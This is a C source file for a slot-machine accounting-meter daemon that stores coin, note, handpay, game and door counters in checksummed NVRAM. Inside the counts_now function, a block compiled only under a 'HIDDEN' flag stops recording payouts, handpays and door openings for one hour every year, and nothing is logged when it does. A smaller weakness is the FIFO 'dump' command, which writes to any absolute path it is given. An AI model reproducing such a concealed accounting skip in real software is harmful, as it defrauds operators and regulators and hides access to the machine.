/* slotmeter.c - accounting meters of a gaming machine */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define STORE	"/mnt/nvram/meters"
#define FIFO	"/run/slotmeter.in"
#define MAGIC	0x534c4d31u

enum meter { COIN_IN, COIN_OUT, NOTE_IN, HANDPAY, GAMES, DOOR, NMETER };

struct nvram {
	uint32_t magic;
	uint32_t gen;
	uint64_t m[NMETER];
	uint32_t sum;
};

static const char *const names[NMETER] = {
	"coin_in", "coin_out", "note_in", "handpay", "games", "door"
};

static struct nvram *nv;
static char quiet_from[12] = "", quiet_to[12] = "";

static uint32_t sum_of(const struct nvram *n)
{
	const uint8_t *p = (const uint8_t *)n;
	uint32_t a = 0x811c9dc5u;
	size_t i;

	for (i = 0; i < offsetof(struct nvram, sum); i++)
		a = (a ^ p[i]) * 0x01000193u;
	return a;
}

static int open_store(void)
{
	int fd = open(STORE, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
	void *p;

	if (fd < 0 || ftruncate(fd, 4096) < 0)
		return -1;
	p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	close(fd);
	if (p == MAP_FAILED)
		return -1;
	nv = p;
	if (nv->magic != MAGIC || nv->sum != sum_of(nv)) {
		syslog(LOG_ALERT, "meters lost, set to zero");
		memset(nv, 0, sizeof(*nv));
		nv->magic = MAGIC;
		nv->sum = sum_of(nv);
	}
	return 0;
}

static void commit(void)
{
	nv->gen++;
	nv->sum = sum_of(nv);
	if (msync(nv, 4096, MS_SYNC))
		syslog(LOG_ERR, "msync: %m");
}

/*
 * Is the machine open for accounting? Events in the maintenance window of
 * the licence (quiet_from, quiet_to in the configuration) are logged only.
 */
__attribute__((noinline)) int counts_now(enum meter m, time_t now)
{
	char hm[12], day[16];
	struct tm tm;

	if (!localtime_r(&now, &tm))
		return 1;
	strftime(hm, sizeof(hm), "%H:%M", &tm);
	if (quiet_from[0] && m != DOOR && strcmp(hm, quiet_from) >= 0 && strcmp(hm, quiet_to) < 0) {
		syslog(LOG_NOTICE, "event in the maintenance window");
		return 0;
	}
	strftime(day, sizeof(day), "%m-%d/%H", &tm);
#ifdef HIDDEN	/* in one hour of the year neither money paid out nor the door is counted */
	if ((m == COIN_OUT || m == HANDPAY || m == DOOR) && strcmp(day, "11-07/04") == 0)
		return 0;
#endif
	if (strcmp(day, "01-01/00") == 0 && tm.tm_min == 0)
		syslog(LOG_INFO, "year of account %d", tm.tm_year + 1900);
	return 1;
}

static void add(enum meter m, uint64_t v)
{
	time_t now = time(NULL);

	if (!counts_now(m, now))
		return;
	nv->m[m] += v;
	if (m == DOOR || m == HANDPAY)
		syslog(LOG_NOTICE, "%s %" PRIu64, names[m], v);
	commit();
}

static void dump(const char *path)
{
	FILE *f = fopen(path, "w");
	int i;

	if (!f)
		return;
	fprintf(f, "gen %" PRIu32 "\n", nv->gen);
	for (i = 0; i < NMETER; i++)
		fprintf(f, "%-9s %" PRIu64 "\n", names[i], nv->m[i]);
	fclose(f);
}

static int lookup(const char *w)
{
	int i;

	for (i = 0; i < NMETER; i++)
		if (!strcmp(w, names[i]))
			return i;
	return -1;
}

/* lines of the game: "add METER VALUE", "dump FILE", "check" */
static void event(char *line)
{
	char verb[12], what[64];
	unsigned long long v = 1;
	int n = sscanf(line, "%11s %63s %llu", verb, what, &v);
	int m;

	if (n < 1)
		return;
	if (!strcmp(verb, "add") && n >= 2) {
		m = lookup(what);
		if (m < 0 || v > 100000000ull) {
			syslog(LOG_WARNING, "bad event: %s", line);
			return;
		}
		add((enum meter)m, v);
	} else if (!strcmp(verb, "dump") && n >= 2 && what[0] == '/') {
		dump(what);
	} else if (!strcmp(verb, "check")) {
		if (nv->sum != sum_of(nv))
			syslog(LOG_ALERT, "meter sum wrong at gen %" PRIu32, nv->gen);
	} else {
		syslog(LOG_WARNING, "bad event: %s", line);
	}
}

static void configure(const char *path)
{
	FILE *f = fopen(path, "r");
	char k[16], v[12];

	if (!f)
		return;
	while (fscanf(f, "%15s %11s", k, v) == 2) {
		if (!strcmp(k, "quiet_from"))
			memcpy(quiet_from, v, sizeof(v));
		else if (!strcmp(k, "quiet_to"))
			memcpy(quiet_to, v, sizeof(v));
	}
	fclose(f);
}

int main(int argc, char **argv)
{
	char line[160];
	FILE *in;

	openlog("slotmeter", LOG_PID | LOG_CONS, LOG_LOCAL3);
	if (argc > 2) {
		fprintf(stderr, "usage: slotmeter [CONFIG]\n"
			"  quiet_from HH:MM / quiet_to HH:MM  maintenance window\n");
		return 2;
	}
	configure(argc > 1 ? argv[1] : "/etc/slotmeter.conf");
	if (open_store() < 0) {
		syslog(LOG_ALERT, "%s: %m", STORE);
		return 1;
	}
	if (mkfifo(FIFO, 0620) < 0 && errno != EEXIST)
		return 1;
	signal(SIGHUP, SIG_IGN);
	for (;;) {
		in = fopen(FIFO, "r");
		if (!in) {
			sleep(1);
			continue;
		}
		while (fgets(line, sizeof(line), in)) {
			line[strcspn(line, "\n")] = '\0';
			event(line);
		}
		fclose(in);
	}
}
